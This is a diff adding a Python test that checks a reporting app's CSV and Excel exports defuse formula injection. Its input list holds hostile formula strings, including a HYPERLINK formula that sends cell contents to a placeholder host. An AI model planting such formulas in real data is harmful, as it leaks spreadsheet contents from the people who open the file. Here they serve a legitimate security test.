@@ -985,3 +985,30 @@ def test_the_compilation_has_each_focus_area_once_with_all_its_questions(client,
     assert headings == [f"{n}. {title}" for n, title in FOCUS_AREAS.items()] + ["Övriga upplysningar"]
     assert list(_sections(response)) == [q.text for q in eav_qs]
     assert list(_sections(response))[-1] == "Övriga upplysningar"
+
+
+def test_exported_facts_never_hold_a_formula_a_spreadsheet_would_run(client, app, w, session):
+    """Names typed into the system (here business areas) that look like formulas are text in the
+    CSV (after an apostrophe) and text cells in the Excel file; numbers stay numbers."""
+    from openpyxl import load_workbook
+
+    hostile = ['=HYPERLINK("http://example.invalid/?x="&A1;"klicka")', "+1+1", "-2+3", "@SUM(A1:A9)",
+               "\t=1+1", "Årsta Partihallar"]
+    facts = {"period": "2026 T2", "business_areas": hostile, "overdue_action_items": 3,
+             "median_working_days_to_triage": -1.5}
+    report = make_report(session, w.eav, period="T2", status="approved", facts=facts)
+    reader = sign_in(client, w.steering)
+
+    csv_rows = list(csv.reader(io.StringIO(reader.get(f"/rapporter/{report.id}/fakta.csv").get_data(as_text=True)
+                                           .lstrip("\ufeff")), delimiter=";"))
+    book = load_workbook(io.BytesIO(reader.get(f"/rapporter/{report.id}/fakta.xlsx").data))
+
+    areas = [row[2] for row in csv_rows if row[0] == "business_areas"]
+    assert areas == ["'" + name for name in hostile[:-1]] + ["Årsta Partihallar"]
+    assert ["median_working_days_to_triage", "", "-1.5"] in csv_rows and ["overdue_action_items", "", "3"] in csv_rows
+    cells = {(row[0].value, row[2].value): row[2] for row in book.active.iter_rows()}
+    for name in hostile:
+        cell = cells[("business_areas", name)]
+        assert cell.data_type == "s", (name, cell.data_type)  # a text cell, shown as typed, never run
+    assert cells[("overdue_action_items", 3)].data_type == "n"
+    assert cells[("median_working_days_to_triage", -1.5)].data_type == "n"
